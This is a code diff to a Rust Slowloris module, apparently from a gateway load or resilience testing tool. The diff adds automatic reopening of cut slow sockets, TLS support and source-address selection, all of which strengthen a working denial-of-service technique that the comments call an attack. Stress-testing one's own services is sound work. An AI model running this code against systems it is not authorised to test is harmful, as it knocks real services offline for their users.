@@ -9,14 +9,12 @@ use std::net::IpAddr;
 use std::sync::Arc;
 use std::time::Duration;
 
-use tokio::io::AsyncWriteExt;
-use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 use tokio::time::{sleep, Instant};
 
 use super::{wait_stop, Ctx, Pacer};
 use crate::cli::SlowlorisArgs;
-use crate::client::{self, parse_response};
+use crate::client::{self, parse_response, Stream};
 use crate::stats::Group;
 use crate::token::TokenKind;
 
@@ -43,11 +41,12 @@ pub async fn run(ctx: Arc<Ctx>, a: &SlowlorisArgs, g: Arc<Group>) {
     let t =
         Trickle { interval: a.interval, bytes_per_tick: a.bytes_per_tick.max(1), with_token: a.with_token };
     let sources = ctx.sources.clone();
-    spawn_all(ctx, g, n, a.rate, t, sources).await;
+    spawn_all(ctx, g, n, a.rate, t, sources, a.reopen).await;
 }
 
 /// Opens `n` slow sockets at `rate` per second (this worker's share is
-/// applied by the caller for `n`, here for the rate) and waits for them.
+/// applied by the caller for `n`, here for the rate) and waits for them;
+/// with `reopen`, each socket the gateway cuts is opened again at once.
 pub async fn spawn_all(
     ctx: Arc<Ctx>,
     g: Arc<Group>,
@@ -55,6 +54,7 @@ pub async fn spawn_all(
     rate: f64,
     t: Trickle,
     sources: crate::target::SourcePool,
+    reopen: bool,
 ) {
     let pacer = Pacer::new(ctx.share.rate(rate));
     let mut stop = ctx.stop.clone();
@@ -65,9 +65,40 @@ pub async fn spawn_all(
             _ = pacer.wait(i) => {}
         }
         let gi = ctx.share.global(i);
-        set.spawn(one(ctx.clone(), g.clone(), gi, sources.pick(gi), t));
+        if reopen {
+            set.spawn(reopening(ctx.clone(), g.clone(), gi, sources.pick(gi), t));
+        } else {
+            let (ctx, g, source) = (ctx.clone(), g.clone(), sources.pick(gi));
+            set.spawn(async move {
+                one(ctx, g, gi, source, t).await;
+            });
+        }
+        while set.try_join_next().is_some() {}
     }
     while set.join_next().await.is_some() {}
+}
+
+/// After a failed connect, wait this long before the next try, so that a
+/// refusing gateway does not turn the attack into a busy loop.
+const RECONNECT_PAUSE: Duration = Duration::from_millis(100);
+
+/// One slot of a held attack: a slow socket, reopened each time it ends,
+/// until the run stops. Counts `reopened`.
+pub async fn reopening(ctx: Arc<Ctx>, g: Arc<Group>, gi: u64, source: Option<IpAddr>, t: Trickle) {
+    let mut first = true;
+    let mut stop = ctx.stop.clone();
+    while !ctx.stopped() {
+        if !first {
+            g.add("reopened", 1);
+        }
+        first = false;
+        if !one(ctx.clone(), g.clone(), gi, source, t).await {
+            tokio::select! {
+                _ = wait_stop(&mut stop) => break,
+                _ = sleep(RECONNECT_PAUSE) => {}
+            }
+        }
+    }
 }
 
 /// The `pos`-th byte of the request head: the real request lines, then
@@ -80,16 +111,22 @@ fn head_byte(prefix: &[u8], pos: usize) -> u8 {
     }
 }
 
-async fn one(ctx: Arc<Ctx>, g: Arc<Group>, gi: u64, source: Option<IpAddr>, t: Trickle) {
-    let mut stream =
-        match client::tcp_connect(ctx.target.addr, source, None, ctx.client.connect_timeout).await {
-            Ok(s) => s,
-            Err(o) => {
-                g.add("connect_failed", 1);
-                g.record_end(&o.status_key(), None);
-                return;
-            }
-        };
+/// One slow socket, until the gateway ends it or the run stops; false when
+/// it could not even connect.
+async fn one(ctx: Arc<Ctx>, g: Arc<Group>, gi: u64, source: Option<IpAddr>, t: Trickle) -> bool {
+    let connected = match client::tcp_connect(ctx.target.addr, source, None, ctx.client.connect_timeout).await
+    {
+        Ok(tcp) => client::secure(tcp, &ctx.target, &ctx.client).await,
+        Err(o) => Err(o),
+    };
+    let mut stream = match connected {
+        Ok(s) => s,
+        Err(o) => {
+            g.add("connect_failed", 1);
+            g.record_end(&o.status_key(), None);
+            return false;
+        }
+    };
     g.add("opened", 1);
     g.opened();
     let since = Instant::now();
@@ -101,11 +138,12 @@ async fn one(ctx: Arc<Ctx>, g: Arc<Group>, gi: u64, source: Option<IpAddr>, t: T
     let (how, by_server) = trickle(&ctx, &mut stream, &prefix, t).await;
     g.record_end(&how, by_server.then(|| since.elapsed()));
     g.closed();
+    true
 }
 
 /// Trickles until the server answers or closes, or the run stops.
 /// Returns the end label and whether the server ended it.
-async fn trickle(ctx: &Ctx, stream: &mut TcpStream, prefix: &[u8], t: Trickle) -> (String, bool) {
+async fn trickle(ctx: &Ctx, stream: &mut Stream, prefix: &[u8], t: Trickle) -> (String, bool) {
     let mut stop = ctx.stop.clone();
     let mut pos = 0usize;
     let mut answer: Vec<u8> = Vec::new();
@@ -114,9 +152,9 @@ async fn trickle(ctx: &Ctx, stream: &mut TcpStream, prefix: &[u8], t: Trickle) -
             _ = wait_stop(&mut stop) => return ("held_to_end".into(), false),
             _ = sleep(t.interval) => {
                 let chunk: Vec<u8> = (pos..pos + t.bytes_per_tick).map(|p| head_byte(prefix, p)).collect();
-                if let Err(e) = stream.write_all(&chunk).await {
+                if let Err(e) = stream.send_all(&chunk).await {
                     // The server may have answered just before closing.
-                    let _ = read_some(stream, &mut answer);
+                    let _ = tokio::time::timeout(Duration::ZERO, stream.read_some(&mut answer)).await;
                     if let Some(label) = answer_label(&answer) {
                         return (label, true);
                     }
@@ -124,16 +162,12 @@ async fn trickle(ctx: &Ctx, stream: &mut TcpStream, prefix: &[u8], t: Trickle) -
                 }
                 pos += t.bytes_per_tick;
             }
-            r = stream.readable() => {
-                if r.is_err() {
-                    return ("reset".into(), true);
-                }
-                match read_some(stream, &mut answer) {
-                    Ok(None) => continue,
-                    Ok(Some(0)) => {
+            r = stream.read_some(&mut answer) => {
+                match r {
+                    Ok(0) => {
                         return (answer_label(&answer).unwrap_or_else(|| "closed".into()), true);
                     }
-                    Ok(Some(_)) => {
+                    Ok(_) => {
                         if let Some(label) = answer_label(&answer) {
                             return (label, true);
                         }
@@ -147,19 +181,6 @@ async fn trickle(ctx: &Ctx, stream: &mut TcpStream, prefix: &[u8], t: Trickle) -
                 }
             }
         }
-    }
-}
-
-/// One non-blocking read into `into`: `Ok(None)` if nothing was ready.
-fn read_some(stream: &TcpStream, into: &mut Vec<u8>) -> std::io::Result<Option<usize>> {
-    let mut tmp = [0u8; 1024];
-    match stream.try_read(&mut tmp) {
-        Ok(n) => {
-            into.extend_from_slice(&tmp[..n]);
-            Ok(Some(n))
-        }
-        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => Ok(None),
-        Err(e) => Err(e),
     }
 }
 
